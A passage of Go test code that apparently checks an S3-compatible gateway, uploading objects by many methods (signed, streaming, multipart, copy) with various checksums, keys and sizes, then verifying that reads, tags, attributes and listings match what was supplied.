	PartEnc []string          // encodings cycled over parts
	// CsumAlgo/CsumType: the upload is created with x-amz-checksum-algorithm / x-amz-checksum-type, every part
	// carries its checksum header and the completion lists the part checksums
	CsumAlgo string
	CsumType string
}

func c01MPPlans(thorough bool) []c01MPPlan {
	seq := func(k int) []int {
		var o []int
		for i := 1; i <= k; i++ {
			o = append(o, i)
		}
		return o
	}
	gaps := func(k int) []int {
		var o []int
		for i := 0; i < k; i++ {
			o = append(o, 1+i*3)
		}
		return o
	}
	one := func(n int) []int { return []int{n} }
	min2 := func(n int) []int {
		if n < 9 {
			return nil
		}
		return []int{8, n - 8}
	}
	min3 := func(n int) []int {
		if n < 17 {
			return nil
		}
		return []int{8, 8, n - 16}
	}
	half := func(n int) []int {
		if n < 18 {
			return nil
		}
		return []int{n / 2, n - n/2}
	}
	exact := func(n int) []int { // last part exactly empty is illegal; last part of exactly MinPartSize
		if n < 16 || n > 4096 {
			return nil
		}
		return []int{n - 8, 8}
	}
	ps := []c01MPPlan{
		{Name: "mp:1part", Cut: one, Numbers: seq, Order: "asc", PartEnc: []string{"signed"}},
		{Name: "mp:8+rest", Cut: min2, Numbers: seq, Order: "asc", PartEnc: []string{"signed", "unsigned"}},
		{Name: "mp:8+8+rest,desc,chunked", Cut: min3, Numbers: seq, Order: "desc", PartEnc: []string{"ss:c5", "sut:crc32:one", "signed"}},
		{Name: "mp:halves,gaps,redo", Cut: half, Numbers: gaps, Order: "asc", Redo: true, PartEnc: []string{"unsigned", "sst:sha256:uneven"}},
	}
	ps = append(ps,
		c01MPPlan{Name: "mp:8+8+rest,full-object-crc32", Cut: min3, Numbers: seq, Order: "asc", CsumAlgo: "crc32", CsumType: "FULL_OBJECT"},
		c01MPPlan{Name: "mp:8+rest,composite-sha256", Cut: min2, Numbers: seq, Order: "desc", CsumAlgo: "sha256", CsumType: "COMPOSITE"},
	)
	if thorough {
		ps = append(ps,
			c01MPPlan{Name: "mp:halves,full-object-crc64nvme", Cut: half, Numbers: gaps, Order: "asc", CsumAlgo: "crc64nvme", CsumType: "FULL_OBJECT"},
			c01MPPlan{Name: "mp:8+rest,full-object-crc32c", Cut: min2, Numbers: seq, Order: "desc", CsumAlgo: "crc32c", CsumType: "FULL_OBJECT"},
			c01MPPlan{Name: "mp:8+8+rest,composite-crc32", Cut: min3, Numbers: seq, Order: "asc", CsumAlgo: "crc32", CsumType: "COMPOSITE"},
			c01MPPlan{Name: "mp:1part,composite-sha1", Cut: one, Numbers: seq, Order: "asc", CsumAlgo: "sha1", CsumType: "COMPOSITE"},
			c01MPPlan{Name: "mp:1part,full-object-crc32", Cut: one, Numbers: seq, Order: "asc", CsumAlgo: "crc32", CsumType: "FULL_OBJECT"},
		)
	}
	if thorough {
		ps = append(ps,
			c01MPPlan{Name: "mp:rest+8", Cut: exact, Numbers: gaps, Order: "desc", PartEnc: []string{"md5", "hdr:crc32c"}},
			c01MPPlan{Name: "mp:8+rest,presigned-parts", Cut: min2, Numbers: seq, Order: "asc", PartEnc: []string{"presigned"}},
		)
	}
	return ps
}

func partSizesFor(enc string, n int) []int {
	f := strings.Split(enc, ":")
	sp := c01Splits(n, []string{f[len(f)-1]})
	if s, ok := sp[f[len(f)-1]]; ok {
		return s
	}
	return []int{n}
}

func (p c01MPPlan) run(e *c01Env, gi int, key string, body []byte, m c01Meta, w *c01Want) *gw.Resp {
	cut := p.Cut(len(body))
	if cut == nil {
		return nil
	}
	path := gw.ObjPath(c01Bucket, key)
	g := func() *gw.GW { gi++; return e.gws[gi%2] }
	var ch [][2]string
	if p.CsumAlgo != "" {
		ch = H("x-amz-checksum-algorithm", strings.ToUpper(p.CsumAlgo), "x-amz-checksum-type", p.CsumType)
	}
	cr := NewReq("POST", path, "uploads", withHdrs(ch, m), nil)
	gw.Sign(cr, gw.Root, gw.SignOpts{})
	resp := g().Do(cr)
	if !resp.OK() {
		return resp
	}
	id := xmlFieldS(resp.Body, "UploadId")
	var parts [][]byte
	off := 0
	for _, n := range cut {
		parts = append(parts, body[off:off+n])
		off += n
	}
	nums := p.Numbers(len(parts))
	idx := make([]int, len(parts))
	for i := range idx {
		idx[i] = i
	}
	if p.Order == "desc" {
		sort.Sort(sort.Reverse(sort.IntSlice(idx)))
	}
	etags := make([]string, len(parts))
	if p.Redo {
		junk := Pattern(len(parts[0])+3, 9)
		c01SendBody(g(), "PUT", path, gw.Q("uploadId", id, "partNumber", fmt.Sprint(nums[0])), nil, junk, "signed", nil, nil)
	}
	for _, i := range idx {
		enc := "signed"
		if p.CsumAlgo != "" {
			enc = "hdr:" + p.CsumAlgo
		} else {
			enc = p.PartEnc[i%len(p.PartEnc)]
		}
		pr := c01SendBody(g(), "PUT", path, gw.Q("uploadId", id, "partNumber", fmt.Sprint(nums[i])), nil, parts[i], enc, partSizesFor(enc, len(parts[i])), nil)
		if !pr.OK() {
			return pr
		}
		etags[i] = pr.Header.Get("ETag")
	}
	var x bytes.Buffer
	x.WriteString("<CompleteMultipartUpload>")
	elem := map[string]string{"crc32": "ChecksumCRC32", "crc32c": "ChecksumCRC32C", "sha1": "ChecksumSHA1", "sha256": "ChecksumSHA256", "crc64nvme": "ChecksumCRC64NVME"}[p.CsumAlgo]
	var rawSums []byte
	for i := range parts {
		cs := ""
		if p.CsumAlgo != "" {
			v := gw.Checksum(p.CsumAlgo, parts[i])
			cs = "<" + elem + ">" + v + "</" + elem + ">"
			raw, _ := base64.StdEncoding.DecodeString(v)
			rawSums = append(rawSums, raw...)
		}
		fmt.Fprintf(&x, "<Part><PartNumber>%d</PartNumber><ETag>%s</ETag>%s</Part>", nums[i], etags[i], cs)
	}
	x.WriteString("</CompleteMultipartUpload>")
	done := NewReq("POST", path, gw.Q("uploadId", id), nil, x.Bytes())
	gw.Sign(done, gw.Root, gw.SignOpts{})
	resp = g().Do(done)
	switch p.CsumType {
	case "FULL_OBJECT":
		w.Csum[p.CsumAlgo] = gw.Checksum(p.CsumAlgo, body)
		w.MustReport = p.CsumAlgo
	case "COMPOSITE":
		w.Csum[p.CsumAlgo] = fmt.Sprintf("%s-%d", gw.Checksum(p.CsumAlgo, rawSums), len(parts))
		w.MustReport = p.CsumAlgo
	}
	w.ETags = []string{mpETagParts(parts)}
	w.IsMP = true
	w.NParts = len(parts)
	return resp
}

func c01Methods(thorough bool) []c01Method {
	var ms []c01Method
	put := func(name, class, enc, split string) {
		ms = append(ms, c01Method{Name: name, Class: class, Up: func(e *c01Env, gi int, key string, body []byte, m c01Meta, w *c01Want) *gw.Resp {
			var sizes []int
			if split != "" {
				sp, ok := c01Splits(len(body), []string{split})[split]
				if !ok {
					return nil
				}
				sizes = sp
			}
			return c01SendBody(e.gws[gi%2], "PUT", gw.ObjPath(c01Bucket, key), "", withHdrs(nil, m), body, enc, sizes, w)
		}})
	}
	put("put:signed", "put:signed", "signed", "")
	put("put:unsigned", "put:unsigned", "unsigned", "")
	put("put:presigned", "put:presigned", "presigned", "")
	put("put:content-md5", "put:content-md5", "md5", "")
	halgos := []string{"crc32", "sha256"}
	talgos := []string{"crc32", "crc64nvme"}
	ualgos := []string{"crc32c", "sha1"}
	splits := []string{"one", "c5", "c8192", "c65536", "uneven"}
	if thorough {
		halgos, talgos, ualgos = gw.ChecksumAlgos, gw.ChecksumAlgos, gw.ChecksumAlgos
	}
	for _, a := range halgos {
		put("put:checksum-header:"+a, "put:checksum-header", "hdr:"+a, "")
	}
	for _, s := range splits {
		put("put:stream-signed:"+s, "put:stream-signed", "ss:"+s, s)
	}
	for _, a := range talgos {
		for _, s := range splits {
			if !thorough && (s == "c5" || s == "c65536") {
				continue
			}
			put("put:stream-signed-trailer:"+a+":"+s, "put:stream-signed-trailer", "sst:"+a+":"+s, s)
		}
	}
	for _, a := range ualgos {
		for _, s := range splits {
			if !thorough && (s == "c8192") {
				continue
			}
			put("put:stream-unsigned-trailer:"+a+":"+s, "put:stream-unsigned-trailer", "sut:"+a+":"+s, s)
		}
	}
	for _, p := range c01MPPlans(thorough) {
		p := p
		ms = append(ms, c01Method{Name: p.Name, Class: "multipart", Up: p.run})
	}
	// server-side copies: the source is uploaded first (signed PUT or multipart) under <key>.src
	cp := func(name string, srcMP bool, directive string, tagDirective string) {
		ms = append(ms, c01Method{Name: name, Class: "copy", Up: func(e *c01Env, gi int, key string, body []byte, m c01Meta, w *c01Want) *gw.Resp {
			srcKey := "src-of-" + key
			if len(srcKey) > 200 || strings.HasSuffix(key, "/") {
				srcKey = "src-of-object"
			}
			srcMeta := c01Meta{Name: "src", Hdrs: H("x-amz-meta-src", "yes", "Content-Type", "text/source", "Cache-Control", "private"), Tags: "from=source"}
			sw := c01WantOf(body, srcMeta)
			var sr *gw.Resp
			if srcMP {
				plan := c01MPPlans(false)[1]
				sr = plan.run(e, gi, srcKey, body, srcMeta, sw)
				if sr == nil {
					return nil
				}
			} else {
				sr = c01SendBody(e.gws[gi%2], "PUT", gw.ObjPath(c01Bucket, srcKey), "", withHdrs(nil, srcMeta), body, "signed", nil, nil)
			}
			if !sr.OK() {
				return sr
			}
			h := H("x-amz-copy-source", c01Bucket+"/"+gw.URIEncode(srcKey, false))
			if directive != "" {
				h = append(h, [2]string{"x-amz-metadata-directive", directive})
			}
			if tagDirective != "" {
				h = append(h, [2]string{"x-amz-tagging-directive", tagDirective})
			}
			if directive == "REPLACE" {
				h = append(h, m.Hdrs...)
			}
			if tagDirective == "REPLACE" && m.Tags != "" {
				h = append(h, [2]string{"x-amz-tagging", m.Tags})
			}
			r := NewReq("PUT", gw.ObjPath(c01Bucket, key), "", h, nil)
			gw.Sign(r, gw.Root, gw.SignOpts{})
			resp := e.gws[(gi+1)%2].Do(r)
			// what the copy must read back as
			mine := c01WantOf(body, m)
			if directive != "REPLACE" {
				w.Hdrs, w.Meta = sw.Hdrs, sw.Meta
			} else {
				w.Hdrs, w.Meta = mine.Hdrs, mine.Meta
			}
			if tagDirective != "REPLACE" {
				w.Tags = sw.Tags
			} else {
				w.Tags = mine.Tags
			}
			w.ETags = []string{etagOf(body)}
			if srcMP {
				w.ETags = append(w.ETags, sw.ETags...)
			}
			return resp
		}})
	}
	// a copy onto itself that replaces the metadata and asks for another checksum algorithm
	ms = append(ms, c01Method{Name: "copy:onto-itself-REPLACE+checksum-algorithm", Class: "copy", Up: func(e *c01Env, gi int, key string, body []byte, m c01Meta, w *c01Want) *gw.Resp {
		if strings.HasSuffix(key, "/") {
			return nil
		}
		// the first upload carries every content header: REPLACE stores exactly the set of the copy request
		sr := c01SendBody(e.gws[gi%2], "PUT", gw.ObjPath(c01Bucket, key), "", H("x-amz-meta-first", "1", "Content-Type", "application/first", "Content-Encoding", "gzip", "Cache-Control", "max-age=31536000", "Content-Disposition", "attachment; filename=\"first.bin\"", "Content-Language", "de", "Expires", "Thu, 01 Dec 2030 16:00:00 GMT"), body, "signed", nil, nil)
		if !sr.OK() {
			return sr
		}
		h := append(H("x-amz-copy-source", c01Bucket+"/"+gw.URIEncode(key, false), "x-amz-metadata-directive", "REPLACE", "x-amz-tagging-directive", "REPLACE", "x-amz-checksum-algorithm", "CRC32"), m.Hdrs...)
		if m.Tags != "" {
			h = append(h, [2]string{"x-amz-tagging", m.Tags})
		}
		r := NewReq("PUT", gw.ObjPath(c01Bucket, key), "", h, nil)
		gw.Sign(r, gw.Root, gw.SignOpts{})
		return e.gws[(gi+1)%2].Do(r)
	}})
	cp("copy:COPY", false, "", "")
	cp("copy:REPLACE", false, "REPLACE", "REPLACE")
	cp("copy:COPY-of-multipart", true, "COPY", "COPY")
	if thorough {
		cp("copy:REPLACE-meta,COPY-tags", false, "REPLACE", "COPY")
		cp("copy:COPY-meta,REPLACE-tags", false, "COPY", "REPLACE")
	}
	// multipart assembled from UploadPartCopy ranges of a source
	upc := func(name, algo string) {
		ms = append(ms, c01Method{Name: name, Class: "multipart-copy", Up: func(e *c01Env, gi int, key string, body []byte, m c01Meta, w *c01Want) *gw.Resp {
			if len(body) < 17 {
				return nil
			}
			srcKey := "upc-src"
			srcMeta := c01Meta{Name: "src", Hdrs: H("x-amz-meta-src", "yes", "Content-Type", "text/source")}
			sr := c01SendBody(e.gws[gi%2], "PUT", gw.ObjPath(c01Bucket, srcKey), "", withHdrs(nil, srcMeta), body, "signed", nil, nil)
			if !sr.OK() {
				return sr
			}
			// the source is only read: it must read back afterwards as it was uploaded
			w.AlsoKey, w.AlsoWant = srcKey, c01WantOf(body, srcMeta)
			path := gw.ObjPath(c01Bucket, key)
			ch := withHdrs(nil, m)
			if algo != "" {
				ch = append(ch, [2]string{"x-amz-checksum-algorithm", algo})
			}
			cr := NewReq("POST", path, "uploads", ch, nil)
			gw.Sign(cr, gw.Root, gw.SignOpts{})
			resp := e.gws[(gi+1)%2].Do(cr)
			if !resp.OK() {
				return resp
			}
			id := xmlFieldS(resp.Body, "UploadId")
			cuts := [][2]int{{0, 7}, {8, len(body)/2 - 1}, {len(body) / 2, len(body) - 1}}
			if len(body)/2-1 < 15 { // the middle part must reach the minimum part size
				cuts = [][2]int{{0, 7}, {8, len(body) - 1}}
			}
			var parts [][]byte
			var x bytes.Buffer
			x.WriteString("<CompleteMultipartUpload>")
			for i, c := range cuts {
				r := NewReq("PUT", path, gw.Q("uploadId", id, "partNumber", fmt.Sprint(i+1)), H("x-amz-copy-source", c01Bucket+"/"+srcKey, "x-amz-copy-source-range", fmt.Sprintf("bytes=%d-%d", c[0], c[1])), nil)
				gw.Sign(r, gw.Root, gw.SignOpts{})
				pr := e.gws[(gi+i)%2].Do(r)
				if !pr.OK() {
					return pr
				}
				parts = append(parts, body[c[0]:c[1]+1])
				fmt.Fprintf(&x, "<Part><PartNumber>%d</PartNumber><ETag>%s</ETag></Part>", i+1, xmlUnesc(xmlFieldS(pr.Body, "ETag")))
			}
			x.WriteString("</CompleteMultipartUpload>")
			done := NewReq("POST", path, gw.Q("uploadId", id), nil, x.Bytes())
			gw.Sign(done, gw.Root, gw.SignOpts{})
			resp = e.gws[gi%2].Do(done)
			w.ETags = []string{mpETagParts(parts)}
			w.IsMP = true
			w.NParts = len(parts)
			return resp
		}})
	}
	upc("mp:upload-part-copy", "")
	upc("mp:upload-part-copy:created-with-crc32", "CRC32")
	return ms
}

func xmlUnesc(s string) string {
	r := strings.NewReplacer("&#34;", `"`, "&quot;", `"`, "&amp;", "&", "&lt;", "<", "&gt;", ">", "&#39;", "'", "&apos;", "'")
	return r.Replace(s)
}

// ---------------------------------------------------------------- observers

type c01List struct {
	Contents []struct {
		Key  string
		Size int64
		ETag string
	}
}

type c01Tagging struct {
	TagSet struct {
		Tag []struct{ Key, Value string }
	}
}

type c01Attrs struct {
	ETag       string
	ObjectSize *int64
	Checksum   *struct {
		ChecksumCRC32     string
		ChecksumCRC32C    string
		ChecksumSHA1      string
		ChecksumSHA256    string
		ChecksumCRC64NVME string
	}
}

func csumHdrs(h interface{ Get(string) string }) map[string]string {
	out := map[string]string{}
	for _, a := range gw.ChecksumAlgos {
		if v := h.Get("x-amz-checksum-" + a); v != "" {
			out[a] = v
		}
	}
	return out
}

// c01Observe reads the object back through g and returns every way in which it departs from want.
func c01Observe(g *gw.GW, key string, w *c01Want) (bad []string, n int, info map[string]string) {
	info = map[string]string{}
	path := gw.ObjPath(c01Bucket, key)
	do := func(method, p, q string, h [][2]string) *gw.Resp {
		r := NewReq(method, p, q, h, nil)
		gw.Sign(r, gw.Root, gw.SignOpts{})
		n++
		return g.Do(r)
	}
	inETags := func(e string) bool {
		for _, x := range w.ETags {
			if x == e {
				return true
			}
		}
		return false
	}
	var getCsum map[string]string
	for _, method := range []string{"GET", "HEAD"} {
		resp := do(method, path, "", H("x-amz-checksum-mode", "ENABLED"))
		if !resp.OK() || resp.Status != 200 {
			bad = append(bad, method+" status "+fmtResp(resp))
			continue
		}
		if method == "GET" && !bytes.Equal(resp.Body, w.Body) {
			bad = append(bad, fmt.Sprintf("GET body differs (%s)", bodyDiffClass(resp.Body, w.Body)))
		}
		if cl := resp.Header.Get("Content-Length"); cl != fmt.Sprint(len(w.Body)) {
			bad = append(bad, method+" Content-Length")
			info[method+" Content-Length"] = fmt.Sprintf("got %q want %d", cl, len(w.Body))
		}
		if !inETags(resp.Header.Get("ETag")) {
			bad = append(bad, method+" ETag")
			info[method+" ETag"] = fmt.Sprintf("got %s want %v", resp.Header.Get("ETag"), w.ETags)
		}
		for _, h := range c01ContentHdrs {
			if got := resp.Header.Get(h); got != w.Hdrs[h] {
				if h == "Content-Type" && w.DefaultCT && strings.HasSuffix(key, "/") && got == "application/x-directory" {
					continue // the gateway's default type of a directory object
				}
				bad = append(bad, method+" "+h+" "+presence(got, w.Hdrs[h]))
				info[method+" "+h] = fmt.Sprintf("got %q want %q", got, w.Hdrs[h])
			}
		}
		gotMeta := map[string]string{}
		for k, v := range resp.Header {
			if l := strings.ToLower(k); strings.HasPrefix(l, "x-amz-meta-") {
				gotMeta[l] = strings.Join(v, ",")
			}
		}
		for k, v := range w.Meta {
			if gv, ok := gotMeta[k]; !ok {
				bad = append(bad, method+" user metadata missing")
			} else if gv != v {
				bad = append(bad, method+" user metadata value differs")
			}
		}
		for k := range gotMeta {
			if _, ok := w.Meta[k]; !ok {
				bad = append(bad, method+" user metadata not supplied is returned")
			}
		}
		if fmt.Sprint(gotMeta) != fmt.Sprint(w.Meta) {
			info[method+" user metadata"] = fmt.Sprintf("got %v want %v", gotMeta, w.Meta)
		}
		wantCount := ""
		if len(w.Tags) > 0 {
			wantCount = fmt.Sprint(len(w.Tags))
		}
		if got := resp.Header.Get("x-amz-tagging-count"); method == "GET" && got != wantCount {
			bad = append(bad, method+" x-amz-tagging-count "+presence(got, wantCount))
		}
		cs := csumHdrs(resp.Header)
		for a, v := range cs {
			// a checksum header must be the checksum of the bytes (composite multipart checksums carry a -N suffix)
			composite := strings.Contains(v, "-") || strings.EqualFold(resp.Header.Get("x-amz-checksum-type"), "COMPOSITE")
			if !composite && v != gw.Checksum(a, w.Body) {
				bad = append(bad, method+" x-amz-checksum-"+a+" is not the checksum of the body")
				info[method+" checksum "+a] = fmt.Sprintf("got %s, the body's is %s (x-amz-checksum-type %q)", v, gw.Checksum(a, w.Body), resp.Header.Get("x-amz-checksum-type"))
			}
		}
		for a, v := range w.Csum {
			// a composite checksum may be reported with or without its -N suffix
			if got, ok := cs[a]; ok && got != v && !(strings.Contains(v, "-") && got == v[:strings.LastIndex(v, "-")]) {
				bad = append(bad, method+" x-amz-checksum-"+a+" differs from the supplied value")
				info[method+" checksum "+a] = fmt.Sprintf("got %s want %s", got, v)
			}
		}
		if w.MustReport != "" && cs[w.MustReport] == "" {
			bad = append(bad, method+" does not report the checksum the upload was created with")
		}
		if method == "GET" {
			getCsum = cs
		} else if getCsum != nil && fmt.Sprint(cs) != fmt.Sprint(getCsum) {
			bad = append(bad, "HEAD and GET checksums differ")
		}
	}
	// tags
	resp := do("GET", path, "tagging", nil)
	if resp.Status == 404 && resp.ErrCode() == "NoSuchTagSet" && len(w.Tags) == 0 {
		// an absent tag set is an empty tag set
	} else if !resp.OK() {
		bad = append(bad, "GetObjectTagging status "+fmtResp(resp))
	} else {
		var t c01Tagging
		if err := xml.Unmarshal(resp.Body, &t); err != nil {
			bad = append(bad, "GetObjectTagging unparsable")
		} else {
			got := map[string]string{}
			for _, tg := range t.TagSet.Tag {
				got[tg.Key] = tg.Value
			}
			if fmt.Sprint(got) != fmt.Sprint(w.Tags) || len(t.TagSet.Tag) != len(w.Tags) {
				bad = append(bad, "tags differ")
				info["tags"] = fmt.Sprintf("got %v want %v", got, w.Tags)
			}
		}
	}
	// attributes
	resp = do("GET", path, "attributes", H("x-amz-object-attributes", "ETag,ObjectSize,Checksum"))
	if !resp.OK() {
		bad = append(bad, "GetObjectAttributes status "+fmtResp(resp))
	} else {
		var a c01Attrs
		if err := xml.Unmarshal(resp.Body, &a); err != nil {
			bad = append(bad, "GetObjectAttributes unparsable")
		} else {
			if a.ObjectSize == nil || *a.ObjectSize != int64(len(w.Body)) {
				bad = append(bad, "attributes ObjectSize")
				info["attributes"] = ck.Short(string(resp.Body), 400)
			}
			if !inETags(`"` + strings.Trim(a.ETag, `"`) + `"`) {
				bad = append(bad, "attributes ETag")
			}
			if a.Checksum != nil && getCsum != nil {
				at := map[string]string{"crc32": a.Checksum.ChecksumCRC32, "crc32c": a.Checksum.ChecksumCRC32C, "sha1": a.Checksum.ChecksumSHA1, "sha256": a.Checksum.ChecksumSHA256, "crc64nvme": a.Checksum.ChecksumCRC64NVME}
				for al, v := range at {
					if v != "" && getCsum[al] != "" && v != getCsum[al] {
						bad = append(bad, "attributes checksum differs from GET")
					}
					if v != "" && getCsum[al] == "" {
						bad = append(bad, "attributes report a checksum GET does not")
					}
				}
				for al, v := range getCsum {
					if v != "" && at[al] == "" {
						bad = append(bad, "GET reports a checksum attributes do not")
					}
				}
			}
		}
	}
	// listing
	resp = do("GET", "/"+c01Bucket, gw.Q("list-type", "2", "prefix", key), nil)
	if !resp.OK() {
		bad = append(bad, "ListObjectsV2 status "+fmtResp(resp))
	} else {
		var l c01List
		if err := xml.Unmarshal(resp.Body, &l); err != nil {
			bad = append(bad, "ListObjectsV2 unparsable")
		} else {
			found := false
			for _, c := range l.Contents {
				if c.Key == key {
					found = true
					if c.Size != int64(len(w.Body)) {
						bad = append(bad, "listing Size")
					}
					if !inETags(c.ETag) {
						bad = append(bad, "listing ETag")
					}
				}
			}
			if !found {
				bad = append(bad, "listing does not contain the key")
			}
		}
	}
	return dedup(bad), n, info
}

func presence(got, want string) string {
	switch {
	case got == "" && want != "":
		return "missing"
	case got != "" && want == "":
		return "present though not supplied"
	}
	return "differs"
}

func bodyDiffClass(got, want []byte) string {
	switch {
	case len(got) < len(want) && bytes.Equal(got, want[:len(got)]):
		return "truncated"
	case len(got) > len(want) && bytes.Equal(got[:len(want)], want):
		return "extended"
	case len(got) == len(want):
		return "same length, other bytes"
	}
	return "other length and bytes"
}

// ---------------------------------------------------------------- keys

func c01Keys(thorough bool) []string {
	ks := []string{
		"plain", "dir/obj", "sp ace", "pl+us", "per%cent", "lit%2Fesc", "am&p", "eq=ual", "q?mark", "ha#sh", "se;mi",
		"co:lon", "at@sign", "com,ma", "do$llar", "quo'te", `dq"uote`, "lt<gt>", `back\slash`, "pipe|", "br{ace}", "sq[uare]",
		"caret^", "tick`", "tilde~", "star*", "bang!", "par(en)", "ünï/日本語/😀", strings.Repeat("x", 255),
		"d/" + strings.Repeat("y", 255) + "/z", ".hidden", "..dots", "a..b", "...", "-dash", "_under", "trailing.", "UPPER/lower",
		"a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t/u/v/w/x/y/z/0/1/2/3/4/5/6/7/8/9",
	}
	if thorough {
		ks = append(ks, "é", "é", " nbsp", "ß/ẞ", "mixed +%&=?#/all", "x/"+strings.Repeat("z", 254)+"/"+strings.Repeat("w", 255), "tab\tkey", "%", "%%", "%zz", "+", "a+b c%20d")
	}
	return ks
}

// ---------------------------------------------------------------- the check

func c01Sizes(thorough bool) []int {
	if thorough {
		return []int{0, 1, 5, 7, 8, 9, 15, 16, 17, 24, 63, 64, 65, 4095, 4096, 4097, 8191, 8192, 8193, 65535, 65536, 65537, 131072, 1 << 20, 1<<20 + 1, 3<<20 + 5}
	}
	return []int{0, 1, 7, 8, 9, 17, 24, 4097, 65536, 65537, 1<<20 + 1}
}

type c01Case struct {
	Part   string
	Cfg    int
	Method int
	Size   int
	Key    string
	Meta   int
	GI     int
	// Prev, when >= 0, is a method used to store another object under the same key first (overwrite part)
	Prev     int
	PrevMeta int
}

func C01(r *ck.Run) {
	if backend.MinPartSize != 8 {
		ck.Fatal("this check needs the build with backend.MinPartSize=8 (run it through ./run); MinPartSize is %d", backend.MinPartSize)
	}
	th := r.Thorough()
	cfgs, methods, metas, keys, sizes := c01Cfgs(th), c01Methods(th), c01Metas(th), c01Keys(th), c01Sizes(th)
	r.Rule("every case = (storage configuration, upload method, body size, key, metadata/tag/content-header set, gateway process that serves the first request) of the finite grammar below is executed on two real gateway processes A and B sharing one posix storage; requests of a multi-request upload alternate between A and B. After the acknowledgement the object is read back through A and through B (GET and HEAD with checksum mode, GetObjectTagging, GetObjectAttributes, ListObjectsV2) and again through both after both were restarted; the reference model is the supplied input: body bytes, length, ETag = MD5 (multipart: MD5 of part MD5s -N), the supplied content headers (aws-chunked removed), exactly the supplied user metadata and tags, checksum headers equal to the checksum of the bytes and equal between GET, HEAD and attributes, listing Size/ETag equal to GET")
	r.Assume("backend.MinPartSize is 8 bytes in this build (overlay constant) so multipart boundaries are reachable with small bodies; everything else is the real code. Parts: sizes = sizes x methods x configurations (one key, rich metadata); keys = keys x 5 methods x configurations; meta = metadata sets x methods that carry metadata x configurations; overwrite = ordered pairs of methods on one key")
	var cases []c01Case
	methodIdx := func(name string) int {
		for i, m := range methods {
			if m.Name == name {
				return i
			}
		}
		ck.Fatal("c01: no method %s", name)
		return -1
	}
	for ci := range cfgs {
		for mi := range methods {
			for si, n := range sizes {
				cases = append(cases, c01Case{Part: "sizes", Cfg: ci, Method: mi, Size: n, Key: fmt.Sprintf("s/%d/%d", mi, n), Meta: 3, GI: (mi + si) % 2, Prev: -1})
				if th {
					cases = append(cases, c01Case{Part: "sizes", Cfg: ci, Method: mi, Size: n, Key: fmt.Sprintf("t/%d/%d", mi, n), Meta: 0, GI: (mi + si + 1) % 2, Prev: -1})
				}
			}
		}
		keyMethods := []string{"put:signed", "put:presigned", "put:stream-unsigned-trailer:crc32c:uneven", "mp:8+rest", "copy:REPLACE"}
		for ki, k := range keys {
			for _, mn := range keyMethods {
				if !th && ci > 1 && mn != "put:signed" && mn != "mp:8+rest" {
					continue
				}
				cases = append(cases, c01Case{Part: "keys", Cfg: ci, Method: methodIdx(mn), Size: 24, Key: k, Meta: 3, GI: ki % 2, Prev: -1})
			}
		}
		// directory objects (trailing slash) carry no data
		for ki, k := range []string{"dirobj/", "nested/dir obj/", "ü/"} {
			for mi := range metas {
				if mi > 3 && ki > 0 {
					continue
				}
				cases = append(cases, c01Case{Part: "directory-object", Cfg: ci, Method: methodIdx("put:signed"), Size: 0, Key: fmt.Sprintf("%d/%s", mi, k), Meta: mi, GI: ki % 2, Prev: -1})
			}
			// replaced by a second PUT with other metadata
			cases = append(cases, c01Case{Part: "directory-object-overwrite", Cfg: ci, Method: methodIdx("put:signed"), Size: 0, Key: "ow/" + k, Meta: 0, GI: ki % 2, Prev: methodIdx("put:signed"), PrevMeta: 3})
			cases = append(cases, c01Case{Part: "directory-object-overwrite", Cfg: ci, Method: methodIdx("put:unsigned"), Size: 0, Key: "ow2/" + k, Meta: 1, GI: ki % 2, Prev: methodIdx("put:signed"), PrevMeta: 3})
		}
		metaMethods := []string{"put:signed", "put:stream-signed:uneven", "put:stream-unsigned-trailer:crc32c:one", "put:presigned", "mp:8+rest", "copy:REPLACE", "copy:COPY", "mp:upload-part-copy", "copy:onto-itself-REPLACE+checksum-algorithm"}
		for mi := range metas {
			for _, mn := range metaMethods {
				cases = append(cases, c01Case{Part: "meta", Cfg: ci, Method: methodIdx(mn), Size: 24, Key: fmt.Sprintf("m/%d/%s", mi, mn), Meta: mi, GI: mi % 2, Prev: -1})
			}
		}
		owMethods := []string{"put:signed", "put:stream-signed:one", "mp:8+rest", "copy:COPY", "copy:REPLACE", "mp:upload-part-copy"}
		for ai, a := range owMethods {
			for bi, b := range owMethods {
				for _, mm := range [][2]int{{3, 0}, {0, 3}, {2, 1}} {
					if !th && mm[0] == 2 {
						continue
					}
					cases = append(cases, c01Case{Part: "overwrite", Cfg: ci, Method: methodIdx(b), Size: 24, Key: fmt.Sprintf("ow/%d-%d-%d", ai, bi, mm[0]), Meta: mm[1], GI: (ai + bi) % 2, Prev: methodIdx(a), PrevMeta: mm[0]})
				}
			}
		}
	}
	r.Extra("cases", len(cases))
	r.Extra("methods", len(methods))
	r.Extra("configurations", len(cfgs))
	// shard by (configuration, slice): one storage per worker at a time
	const slices = 8
	r.Sharded(16, func() {
		for ci, cfg := range cfgs {
			for sl := 0; sl < slices; sl++ {
				if !r.Mine(ci*slices + sl) {
					continue
				}
				e := newC01Env(cfg)
				report := func(c c01Case, phase string, bad []string, det map[string]any) {
					for _, b := range bad {
						d := map[string]any{"phase": phase}
						for k, v := range det {
							d[k] = v
						}
						r.Violation(ck.JoinSig(c.Part, methods[c.Method].Class, b), d)
					}
				}
				idx := 0
				for _, c := range cases {
					if c.Cfg != ci {
						continue
					}
					idx++
					if idx%slices != sl {
						continue
					}
					m := methods[c.Method]
					body := Pattern(c.Size, byte(c.Method))
					det := map[string]any{"configuration": cfg.Name, "method": m.Name, "size": c.Size, "key": c.Key, "metadata": metas[c.Meta].Name, "first_gateway": []string{"A", "B"}[c.GI]}
					if c.Prev >= 0 {
						pbody := Pattern(c.Size+9, 77)
						if strings.HasSuffix(c.Key, "/") {
							pbody = nil
						}
						pw := c01WantOf(pbody, metas[c.PrevMeta])
						pr := methods[c.Prev].Up(e, c.GI+1, c.Key, pbody, metas[c.PrevMeta], pw)
						if pr == nil || !pr.OK() {
							continue
						}
						// the replaced object is itself read back through both processes first (so that anything a
						// process remembers about the key stems from the object that is about to be replaced)
						for gi, g := range e.gws {
							bad, n, info := c01Observe(g, c.Key, pw)
							r.Add("evaluations", int64(n))
							det["observed"] = info
							report(c, "read back of the first object through "+[]string{"A", "B"}[gi], bad, det)
						}
						det["previous_object"] = methods[c.Prev].Name + " with " + metas[c.PrevMeta].Name
					}
					w := c01WantOf(body, metas[c.Meta])
					resp := m.Up(e, c.GI, c.Key, body, metas[c.Meta], w)
					if resp == nil {
						continue // method does not apply to this size
					}
